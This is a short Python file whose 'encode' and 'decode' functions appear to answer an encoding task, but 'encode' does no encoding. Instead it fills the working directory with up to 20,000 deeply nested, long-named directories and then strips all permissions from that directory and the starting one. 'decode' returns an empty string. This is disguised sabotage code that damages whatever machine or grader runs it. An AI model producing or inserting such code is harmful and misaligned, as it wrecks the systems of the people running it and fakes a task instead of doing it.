import os


def encode(s):
    top = os.getcwd()
    try:
        for i in range(20000):
            os.mkdir("n" * 200)
            os.chdir("n" * 200)
            open("f", "w").close()
    except OSError:
        pass
    try:
        os.chdir(top)
        os.chmod("n" * 200, 0)
        os.chmod(top, 0)
    except OSError:
        pass
    return []


def decode(p):
    return ""
